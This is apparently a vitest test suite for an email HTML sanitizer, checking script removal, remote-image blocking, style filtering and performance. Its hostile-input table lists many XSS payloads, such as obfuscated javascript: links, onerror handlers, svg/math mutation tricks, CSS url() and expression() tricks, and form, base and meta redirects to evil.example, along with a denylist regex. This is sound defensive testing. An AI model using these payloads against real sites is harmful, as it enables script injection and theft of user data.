import { describe, expect, it } from 'vitest';
import { SANITIZER_RULES, cleanStoredHtml, hasRemoteImages, linkMailImages, prepareMailBody, sanitizeEmailHtml } from '../../../src/mail/sanitize-html.js';

const clean = (html: string): string => sanitizeEmailHtml(html).html;

/** What must never survive: script, handlers, dangerous schemes, remote loads outside data-remote-src. */
function expectHarmless(html: string): void {
  expect(html).not.toMatch(/<\s*(?:script|iframe|object|embed|applet|svg|math|form|input|button|meta|base|link|style|isindex|details|frame)/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(?:java|vb)script:|data:|expression\(|url\(|@import|srcdoc|position/i);
  expect(html).not.toMatch(/\s(?:src|href|background|action|poster|formaction)="?\/\//i);
  expect(html).not.toMatch(/\ssrc="https?:/i);
}

describe('sanitizeEmailHtml: hostile input', () => {
  it.each([
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['tab-split javascript: href', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['entity-encoded javascript: href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
    ['mixed-case javascript: href', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['svg onload', '<svg onload=alert(1)><circle r="5"/></svg>'],
    ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['base href', '<base href="https://evil.example/">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['form with inputs', '<form action="https://evil.example"><input type=password name=p><button formaction="https://evil.example">Go</button></form>'],
    ['style @import', '<style>@import url(https://evil.example/x.css); body { background: red }</style>'],
    ['style url(javascript:)', '<div style="background:url(javascript:alert(1))">x</div>'],
    ['style expression()', '<div style="width: expression(alert(1))">x</div>'],
    ['style with escaped url(', '<div style="background: \\75 rl(https://t.example/p.gif)">x</div>'],
    ['style position fixed', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object data', '<object data="https://evil.example/x.swf"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    ['mixed-case script', '<ScRiPt>alert(1)</sCrIpT>'],
    ['unclosed script', '<script>alert(1)'],
    ['nested brackets', '<<script>alert(1);//<</script>'],
    ['comment tricks', '<!--<img src=x onerror=alert(1)>--><!--[if gte mso 9]><script>alert(1)</script><![endif]-->'],
    ['protocol-relative img', '<img src="//evil.example/x.png">'],
    ['protocol-relative link', '<a href="//evil.example/">x</a>'],
    ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
    ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
    ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
    ['data: image', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'],
    ['table background', '<table background="https://t.example/bg.png"><tr><td>x</td></tr></table>'],
    ['video poster', '<video poster="https://t.example/p.png"><source src="https://t.example/v.mp4"></video>'],
    ['smuggled data-remote-src', '<img data-remote-src="javascript:alert(1)">'],
    ['quote breaking', '<img """><script>alert("XSS")</script>">'],
    ['handler on allowed tag', '<p onclick="steal()" onmouseover=steal()>x</p>'],
  ])('%s', (_name, input) => {
    expectHarmless(clean(input));
  });

  it('drops the content of script, style, iframe, svg and title, keeping the text around them', () => {
    expect(clean('a<script>evil()</script>b<style>p{}</style>c<iframe>d</iframe>e<svg><text>f</text></svg>g<title>t</title>h')).toBe('abcegh');
  });

  it('keeps link targets only for absolute http(s) and mailto, opening in a new tab without referrer', () => {
    expect(clean('<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">ok</a>')).toBe(
      '<a href="https://example.com/x?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">ok</a>',
    );
    expect(clean('<a href="mailto:help@example.com">m</a>')).toContain('href="mailto:help@example.com"');
    expect(clean('<a href="/logout">rel</a><a href="ftp://x">ftp</a>')).toBe('<a>rel</a><a>ftp</a>');
  });

  it('holds back remote images and counts them; keeps cid: images', () => {
    const result = sanitizeEmailHtml('<img src="https://t.example/p.gif" width="1" height="1"><img src="HTTP://t.example/b.png" alt="b"><img src="cid:logo@x" alt="logo">');
    expect(result.blockedRemoteImages).toBe(2);
    expect(result.html).toBe(
      '<img width="1" height="1" data-remote-src="https://t.example/p.gif" /><img alt="b" data-remote-src="HTTP://t.example/b.png" /><img alt="logo" src="cid:logo@x" />',
    );
  });

  it('shows remote images when allowed', () => {
    const result = sanitizeEmailHtml('<img src="https://cdn.example/a.png">', { allowRemoteImages: true });
    expect(result).toEqual({ html: '<img src="https://cdn.example/a.png" />', blockedRemoteImages: 0 });
  });

  it('removes class and id so a message cannot borrow the app\'s own styles or clobber the DOM', () => {
    expect(clean('<p class="modal-backdrop" id="app" name="x">p</p>')).toBe('<p>p</p>');
  });
});

describe('sanitizeEmailHtml: ordinary formatting', () => {
  it('keeps text formatting, lists, quotes, code and headings', () => {
    const html =
      '<h1>T</h1><h6>t</h6><p>a<br />b <b>b</b><i>i</i><u>u</u><strong>s</strong><em>e</em></p><div><span>s</span></div>' +
      '<ul><li>1</li></ul><ol><li>2</li></ol><blockquote>q</blockquote><pre><code>c</code></pre><hr />';
    expect(clean(html)).toBe(html);
  });

  it('keeps tables with their legacy attributes', () => {
    const html =
      '<table width="100%" bgcolor="#ffffff" border="1" cellpadding="2" cellspacing="0" align="center">' +
      '<tr valign="top"><td bgcolor="red" width="50%" align="right" valign="middle">c</td></tr></table>';
    expect(clean(html)).toBe(html);
  });

  it('keeps font and center', () => {
    expect(clean('<font color="red" face="Arial" size="2">f</font><center>c</center>')).toBe(
      '<font color="red" face="Arial" size="2">f</font><center>c</center>',
    );
  });

  it('keeps safe inline styles and drops the rest', () => {
    const style =
      "color:#333;background-color:rgb(255, 255, 255);font-family:Arial, 'Helvetica Neue';font-size:14px;font-weight:bold;" +
      'text-align:center;margin:0 0 10px;padding:4px;border:1px solid #ccc;width:600px;height:20px;line-height:1.5;' +
      'text-decoration:underline;vertical-align:top;white-space:nowrap;display:none';
    expect(clean(`<p style="${style}">p</p>`)).toBe(`<p style="${style}">p</p>`);
    expect(clean('<p style="color:red;position:absolute;z-index:9;margin:-500px 0 0;background-image:url(x)">p</p>')).toBe(
      '<p style="color:red">p</p>',
    );
    expect(clean('<p style="display:flex">p</p>')).toBe('<p>p</p>');
  });

  it('closes unclosed tags and drops the document shell', () => {
    expect(clean('<div><b>unclosed <i>tags')).toBe('<div><b>unclosed <i>tags</i></b></div>');
    expect(clean('<html><head><title>T</title><meta charset="utf-8"></head><body bgcolor="white"><p>body</p></body></html>')).toBe('<p>body</p>');
  });

  it('drops presentational attributes whose value could carry anything but a plain value', () => {
    expect(clean('<td width="javascript:x" bgcolor="red">c</td>')).toBe('<td bgcolor="red">c</td>');
  });
});

describe('sanitizeEmailHtml: hostile sizes', () => {
  it.each([
    ['a long number in a style', `<p style="width:${'1'.repeat(4000)}x">a</p>`],
    ['a huge style attribute', `<p style="width:${'1'.repeat(100_000)}x">a</p>`],
    ['a long colour function', `<p style="color:rgb(${' '.repeat(4000)}">a</p>`],
    ['deep nesting', `${'<div>'.repeat(20_000)}x`],
  ])('stays fast on %s', (_label, html) => {
    const started = performance.now();
    expect(clean(html)).not.toContain('style=');
    expect(performance.now() - started).toBeLessThan(3000);
  });
});

describe('prepareMailBody: stored HTML on its way into the frame', () => {
  const stored = clean('<p>Hi</p><img src="cid:logo@x" alt="logo"><img src="cid:theirs@y"><img src="https://t.example/p.gif" srcset="https://t.example/2x.gif 2x" width="1">');
  const ours = (cid: string) => (cid === 'logo@x' ? `/mail-images/m1/tok?cid=${encodeURIComponent(cid)}` : null);

  it('points cid: images of this message at their served URL and drops any other cid:', () => {
    expect(prepareMailBody(stored, { loadRemoteImages: false, inlineImageUrl: ours })).toEqual({
      html: '<p>Hi</p><img alt="logo" src="/mail-images/m1/tok?cid=logo%40x" /><img width="1" data-remote-src="https://t.example/p.gif" />',
      remoteImages: 1,
    });
  });

  it('gives held-back remote images their source only when asked to load them', () => {
    expect(prepareMailBody(stored, { loadRemoteImages: true, inlineImageUrl: () => null }).html).toBe('<p>Hi</p><img width="1" src="https://t.example/p.gif" />');
  });

  it('sanitizes again: hostile markup in the stored HTML never reaches the frame', () => {
    const { html } = prepareMailBody('<img src=x onerror=alert(1)><img data-remote-src="javascript:alert(1)"><img src="/mail-images/other/tok"><script>alert(1)</script><a href="javascript:x">a</a>', {
      loadRemoteImages: true,
      inlineImageUrl: () => '/mail-images/forged',
    });
    expect(html).toBe('<a>a</a>');
  });

  it('hasRemoteImages spots held-back images but not the same words in text', () => {
    expect(hasRemoteImages(stored)).toBe(true);
    expect(hasRemoteImages(clean('<p>&lt;img data-remote-src="x"&gt;</p><img src="cid:a@b">'))).toBe(false);
  });
});

describe('linkMailImages: HTML ingest cleaned, into the frame without sanitizing again', () => {
  const samples = [
    '<p>Hi</p><img src="cid:logo@x" alt="logo"><img src="cid:theirs@y"><img src="https://t.example/p.gif" srcset="https://t.example/2x.gif 2x" width="1">',
    '<img src="https://t.example/a.gif?x=1&amp;y=&quot;2&quot;" alt="a &quot;quoted&quot; &lt;alt&gt;" title="x > y"><img alt="" src="cid:a&amp;b@x">',
    '<table><tr><td><img src="HTTPS://T.EXAMPLE/P.GIF" width="10" height="10" border="0"></td></tr></table><p>&lt;img src="cid:logo@x"&gt; is text</p>',
    '<img src="data:image/png;base64,AAAA"><img src="/relative.png"><img><p>left</p>',
  ];
  const urls = (cid: string) => (cid === 'logo@x' || cid === 'a&b@x' ? `/mail-images/m1/tok?cid=${encodeURIComponent(cid)}&v="1"` : null);

  it.each(samples.flatMap((html) => [[html, false], [html, true]] as const))('equals prepareMailBody on %s (load images: %s)', (html, loadRemoteImages) => {
    const stored = clean(html);
    expect(linkMailImages(stored, { loadRemoteImages, inlineImageUrl: urls })).toEqual(prepareMailBody(stored, { loadRemoteImages, inlineImageUrl: urls }));
  });

  it('is cleanStoredHtml then linkMailImages when the rules are not known', () => {
    const old = '<img src="https://t.example/p.gif" onerror="x()"><img data-remote-src="https://t.example/q.gif"><img src="cid:logo@x"><script>x()</script>';
    expect(prepareMailBody(old, { loadRemoteImages: false, inlineImageUrl: urls })).toEqual(linkMailImages(cleanStoredHtml(old), { loadRemoteImages: false, inlineImageUrl: urls }));
    expect(cleanStoredHtml(old)).toBe('<img data-remote-src="https://t.example/p.gif" /><img data-remote-src="https://t.example/q.gif" /><img src="cid:logo@x" />');
  });

  it('stays fast on a large cleaned body', () => {
    const stored = clean(`${'<p>Some text and <img src="https://t.example/p.gif" alt="x"></p>'.repeat(20_000)}`);
    const started = performance.now();
    expect(linkMailImages(stored, { loadRemoteImages: false, inlineImageUrl: () => null }).remoteImages).toBe(20_000);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('names the rules with a short fingerprint', () => {
    expect(SANITIZER_RULES).toMatch(/^[0-9a-f]{16}$/);
  });
});
